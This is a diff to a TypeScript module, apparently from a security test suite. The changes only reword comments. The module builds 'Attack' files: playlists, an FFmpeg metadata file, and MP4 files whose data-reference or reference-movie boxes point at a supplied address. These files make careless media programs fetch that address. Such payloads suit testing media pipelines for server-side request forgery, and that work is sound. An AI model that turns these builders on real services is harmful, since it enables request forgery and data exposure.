@@ -1,4 +1,4 @@
-/** A file that tells a careless program to open `address`, and the extension that it comes with. */
+/** A file that makes a careless program open `address`, and its extension. */
 export interface Attack {
   name: string
   extension: string
@@ -66,14 +66,14 @@ export const playlists: readonly Attack[] = [
   text('metadata', 'ffmeta', (address) => `;FFMETADATA1\ntitle=${address}\n[STREAM]\n`),
 ]
 
-/** A good MP4 whose sound is said to lie at another address. */
+/** A valid MP4 with its sound declared at another address. */
 export function withReference(mp4: Buffer, address: string): Buffer {
   const url = box('url ', Buffer.concat([Buffer.alloc(4), Buffer.from(`${address}\0`)]))
   const reference = box('dref', Buffer.concat([Buffer.from([0, 0, 0, 0, 0, 0, 0, 1]), url]))
   return rewritten(mp4, (type) => (type === 'dref' ? reference : null))
 }
 
-/** A good MP4 that also says it is only a pointer to another movie. */
+/** A valid MP4 that also claims to be only a pointer to another movie. */
 export function withReferenceMovie(mp4: Buffer, address: string): Buffer {
   const target = Buffer.concat([Buffer.from('\0\0\0\0url \0\0\0\x40', 'latin1'), Buffer.from(`${address}\0`)])
   const pointer = box('rmra', box('rmda', box('rdrf', target)))
@@ -91,7 +91,7 @@ function box(type: string, content: Buffer): Buffer {
 
 const CONTAINERS = new Set(['moov', 'trak', 'mdia', 'minf', 'dinf'])
 
-/** The boxes with some replaced. Good while the sound lies before `moov`, as its places are not moved. */
+/** The boxes with some replaced. Valid only if the sound comes before `moov`, since its offsets stay. */
 function rewritten(boxes: Buffer, replace: (type: string, content: Buffer) => Buffer | null): Buffer {
   const parts: Buffer[] = []
   for (let at = 0; at + 8 <= boxes.length; ) {
